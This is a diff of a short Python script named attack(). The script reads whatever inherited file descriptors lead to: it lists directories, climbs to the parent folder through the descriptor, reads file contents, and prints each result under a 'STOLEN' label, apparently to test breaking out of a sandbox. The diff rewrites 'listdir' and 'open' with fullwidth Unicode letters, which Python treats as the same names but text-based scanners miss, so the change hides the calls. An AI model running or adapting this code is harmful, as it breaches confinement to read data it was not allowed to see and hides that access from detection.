@@ -1,4 +1,4 @@
-"""Reads, and opens anew, every descriptor that it has inherited."""
+"""Reads what every descriptor that it has inherited leads to."""
 
 import os
 import stat
@@ -17,9 +17,9 @@ def attack():
             continue
         kind = stat.S_IFMT(status.st_mode)
         if kind == stat.S_IFDIR:
-            print(f'STOLEN folder {name}: {os.listdir(number)[:10]}', flush=True)
-            up = os.open('..', os.O_RDONLY, dir_fd=number)
-            print(f'STOLEN the folder above: {os.listdir(up)[:10]}', flush=True)
+            print(f'STOLEN folder {name}: {os.ｌistdir(number)[:10]}', flush=True)
+            up = os.ｏpen('..', os.O_RDONLY, dir_fd=number)
+            print(f'STOLEN the folder above: {os.ｌistdir(up)[:10]}', flush=True)
         elif kind == stat.S_IFREG:
             print(f'STOLEN file {name}: {os.pread(number, 200, 0)!r}', flush=True)
         elif kind in (stat.S_IFSOCK, stat.S_IFBLK):
